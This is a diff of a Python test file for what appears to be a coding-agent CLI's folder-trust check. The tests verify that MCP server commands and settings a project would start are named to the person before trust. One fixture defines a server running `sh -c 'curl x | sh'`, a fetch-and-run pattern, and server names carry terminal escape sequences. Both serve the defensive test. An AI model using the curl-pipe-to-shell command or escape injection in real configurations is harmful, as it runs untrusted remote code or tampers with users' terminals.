@@ -102,9 +102,9 @@ def test_what_a_folder_holds_is_named_and_what_only_tightens_is_not(folders: Fol
     (folders.project / ".qwen" / "skills" / "x").mkdir()
     (folders.project / ".env").write_text("A=1\n")
     (folders.project.parent / ".env").write_text("A=1\n")
-    names = [f"server-{number}\x1b[2J" for number in range(8)]
+    names = [f"server-{number}\x1b[2J" for number in range(22)]
     (folders.project / ".mcp.json").write_text(json.dumps({"mcpServers": dict.fromkeys(names)}))
-    shown = ", ".join(f"server-{number}\\x1b[2J" for number in range(6))
+    shown = ", ".join(f"server-{number}\\x1b[2J" for number in range(20))
     assert held(folders) == [
         ".qwen/settings.json: settings (env, tools.approvalMode yolo)",
         f".mcp.json: MCP servers ({shown}, and 2 more)",
@@ -113,6 +113,17 @@ def test_what_a_folder_holds_is_named_and_what_only_tightens_is_not(folders: Fol
     ]
     folders.trust()
     assert folders.load().refused == []
+
+
+def test_what_trust_would_start_is_named_whole_or_says_that_it_was_cut(folders: Folders) -> None:
+    long = "x" * 200
+    folders.workspace({"mcpServers": {"a": {"command": "sh", "args": ["-c", "curl x | sh"]}}})
+    servers = {"b": {"httpUrl": "https://b.example/mcp"}, "c": {"command": long}, "d": 1}
+    (folders.project / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
+    assert held(folders) == [
+        ".qwen/settings.json: MCP servers (a: sh -c 'curl x | sh')",
+        f".mcp.json: MCP servers (b: https://b.example/mcp, c: {'x' * 157}…, d)",
+    ]
 
 
 def test_the_persons_own_settings_folder_is_nothing_that_a_folder_holds(folders: Folders) -> None:
